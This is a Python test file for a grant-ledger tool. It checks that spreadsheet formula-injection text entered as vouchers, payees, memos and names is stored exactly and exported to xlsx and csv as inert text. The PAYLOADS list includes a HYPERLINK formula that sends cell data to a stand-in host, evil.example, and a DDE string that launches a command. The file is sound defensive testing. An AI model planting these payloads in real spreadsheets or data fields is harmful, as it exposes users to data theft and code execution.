"""Text a person typed or imported is text in every file a spreadsheet opens (issue 14, item 8).

A spend whose voucher, payee and memo are formulas (and a base named like one) goes out through
every report and export format: no workbook cell is a formula and each holds the text exactly; no
csv cell starts a formula (OWASP: = + - @ tab CR behind an apostrophe); and export -> import
gives back exactly the events, whatever the text, a voucher that truly starts with an apostrophe
included.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner

from tests.conftest import DISTRICT_BODIES, Ledger
from tests.test_actions import _stored

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"发票")',
    "=1+2",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "'=1+2",  # an apostrophe of its own before a formula: read back with it
    "'plain",  # an apostrophe of its own, nothing after it to run
    "''@x",
    "#N/A",  # Excel's error values, as text a finance system wrote
    "#DIV/0!",
]
BASE_NAME = "=1+1"
UNIT_NAME = '=HYPERLINK("http://evil.example/","单位")'
STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")  # a number a report writes (days left may be negative)


def _runs(cell: str) -> bool:
    """A csv cell a spreadsheet would run as a formula."""
    return cell[:1] in STARTS and not NUMBER.fullmatch(cell)


def _record(ledger: Ledger) -> None:
    """G1 on base B0001 named like a formula, funded, and one spend per payload: the payload as
    voucher, payee and memo (the memo with a tab inside, which free text may hold)."""
    ledger.ok("unit", "register", "U1", "--name", UNIT_NAME, "--date", "2024-02-01")
    ledger.ok("grant", "apply", "G1", "--unit", "U1", "--base", "B0001", "--base-name", BASE_NAME,
              "--programme", "district_base", "--project", "电工", "--amount", "20万",
              "--date", "2024-03-01")  # fmt: skip
    ledger.ok("grant", "review", "G1", "--panel", "5", "--recommendation", "recommend",
              "--date", "2024-03-08", role="approver")  # fmt: skip
    ledger.ok("grant", "notice", "G1", "--from", "2024-03-11", "--to", "2024-03-15", role="approver")
    ledger.ok("grant", "approve", "G1", "--amount", "200000", "--document", "=渝人社1", *DISTRICT_BODIES,
              "--date", "2024-04-01", role="approver")  # fmt: skip
    ledger.ok("disburse", "G1", "--amount", "12万", "--voucher", "T1", "--date", "2024-04-10")
    for n, text in enumerate(PAYLOADS):
        ledger.ok("spend", "G1", "--amount", f"{100 + n}", "--category", "equipment",
                  "--project", text, "--voucher", text, "--payee", text, "--memo", f"{text}\t备注",
                  "--date", "2024-05-10")  # fmt: skip


@pytest.fixture(scope="module")
def hostile_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "ledger.db"
    _record(Ledger(f"sqlite:///{path}", CliRunner()))
    return path


@pytest.fixture
def hostile(hostile_file: Path, tmp_path: Path) -> Ledger:
    shutil.copy(hostile_file, tmp_path / "ledger.db")
    return Ledger(f"sqlite:///{tmp_path / 'ledger.db'}", CliRunner())


def _spends(url: str) -> list[dict[str, object]]:
    return [state for topic, state in _stored(url) if topic.endswith("ExpenditureRecorded")]


def test_what_was_typed_is_stored_exactly(hostile: Ledger) -> None:
    spends = _spends(hostile.url)
    assert [s["voucher"] for s in spends] == PAYLOADS
    assert [s["payee"] for s in spends] == PAYLOADS
    assert [s["memo"] for s in spends] == [f"{p}\t备注" for p in PAYLOADS]


# every command that writes a workbook or a csv, and a text each must show
READS = [
    (("export",), [*PAYLOADS, f"{PAYLOADS[0]}\t备注", UNIT_NAME, BASE_NAME]),
    (("balance",), [BASE_NAME]),
    (("history", "G1"), PAYLOADS),
    (("report", "categories"), []),
    (("report", "sources"), []),
    (("report", "execution"), []),
    (("report", "matching"), []),
]


@pytest.mark.parametrize(("command", "shown"), READS, ids=[" ".join(c) for c, _ in READS])
def test_no_workbook_cell_is_a_formula_and_every_text_is_exact(
    hostile: Ledger, tmp_path: Path, command: tuple[str, ...], shown: list[str]
) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "out.xlsx"
    hostile.ok(*command, "--format", "xlsx", "--output", str(out))
    book = load_workbook(out)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if c.data_type == "s"]
    for text in shown:
        assert text in texts, text
    assert not [c.coordinate for c in cells if c.data_type == "e"]
    for cell in cells:  # a formula-like text is marked as typed text, as Excel marks '=1+2
        if cell.data_type == "s" and (str(cell.value)[:1] in STARTS or cell.value in ("#N/A", "#DIV/0!")):
            assert cell.quotePrefix, cell.coordinate


@pytest.mark.parametrize(("command", "shown"), READS, ids=[" ".join(c) for c, _ in READS])
def test_no_csv_cell_starts_a_formula(hostile: Ledger, command: tuple[str, ...], shown: list[str]) -> None:
    out = hostile.ok(*command, "--format", "csv").stdout
    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
    assert not [c for c in cells if _runs(c)]
    for text in shown:
        written = "'" + text if text.lstrip("'")[:1] in STARTS else text
        assert written in cells, written
    assert "'plain" in cells or "'plain" not in shown  # no apostrophe added where none is needed


def test_the_findings_csv_starts_no_formula_either(hostile: Ledger) -> None:
    out = hostile.ok("report", "findings", "--format", "csv", "--as-of", "2026-06-01").stdout
    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
    assert cells and not [c for c in cells if _runs(c)]


def _books(url: str) -> list[tuple[str, dict[str, object]]]:
    """The stored events of the books: each copy has its own people registry (its own
    administrator's key), which no export carries."""
    return [(topic, state) for topic, state in _stored(url) if not topic.startswith("grant-ledger:People.")]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_gives_back_exactly_the_events(hostile: Ledger, tmp_path: Path, fmt: str) -> None:
    """The import takes off exactly the apostrophe the csv export put on, and nothing else; a
    workbook's cells are read as they are."""
    runs = tmp_path / "runs"
    hostile.ok("export", "--format", fmt, "--runs", str(runs))
    copies = []
    for name in ("first", "second"):
        copy = Ledger(f"sqlite:///{tmp_path / name}.db", CliRunner())
        for path in sorted(runs.iterdir()):
            copy.ok("import", str(path), role=path.stem.split("-")[1])
        copies.append(copy)
        if name == "first":  # the copy exported again, into the second copy
            runs = tmp_path / "again"
            copy.ok("export", "--format", fmt, "--runs", str(runs))
    first, second = copies
    assert _spends(first.url) == _spends(hostile.url)
    assert _books(second.url) == _books(first.url)
    assert first.balances() == hostile.balances()


def test_a_csv_cell_that_truly_starts_with_an_apostrophe_is_imported_as_written(
    hostile: Ledger, tmp_path: Path
) -> None:
    """Only an apostrophe the export would have put is taken off: ``'plain`` and ``'`` stay."""
    book = tmp_path / "books.csv"
    header = "date,unit_id,base_id,grant_id,programme,kind,amount,source,category,content,voucher,payee,memo"
    book.write_text(
        f"{header}\n2024-05-11,,B0001,G1,,spend,1,subsidy,equipment,,'X1,',''=y\n", encoding="utf-8"
    )
    hostile.ok("import", str(book))
    last = _spends(hostile.url)[-1]
    assert (last["voucher"], last["payee"], last["memo"]) == ("'X1", "'", "'=y")


def test_a_workbook_cell_holding_an_excel_error_is_refused(hostile: Ledger, tmp_path: Path) -> None:
    """A memo of #N/A left by a lookup pasted as values: an error value, not text an officer typed
    (text would carry an apostrophe); refused naming the cell, nothing written."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    header = "date,unit_id,base_id,grant_id,programme,kind,amount,source,category,content,voucher,payee,memo"
    sheet.append(header.split(","))
    for day, amount, voucher, memo in (("2024-05-11", 1, "X1", ""), ("2024-05-12", 2, "X2", "#N/A")):
        cells = [day, "", "B0001", "G1", "", "spend", amount, "subsidy", "equipment", "", voucher, "某", memo]
        sheet.append(cells)
    assert sheet["M3"].data_type == "e"
    path = tmp_path / "vouchers.xlsx"
    book.save(path)
    before = _spends(hostile.url)

    result = hostile("import", str(path))

    assert result.exit_code == 2, result.output
    assert result.stderr.count("\n") == 1
    assert "vouchers.xlsx: cell M3 (#N/A) holds an Excel error value" in result.stderr
    assert _spends(hostile.url) == before


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_reads_the_workbook_as_text(hostile: Ledger, tmp_path: Path) -> None:
    out = tmp_path / "history.xlsx"
    hostile.ok("history", "G1", "--format", "xlsx", "--output", str(out))
    subprocess.run(
        [
            "soffice",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",
            "--outdir",
            str(tmp_path),
            str(out),
        ],
        check=True,
        capture_output=True,
        timeout=120,
        env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
    )
    text = (tmp_path / "history.csv").read_text(encoding="utf-8", errors="replace")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    for payload in PAYLOADS:
        assert payload in cells, payload  # shown as typed, not evaluated (=1+2 would be 3)
    assert "3" not in cells
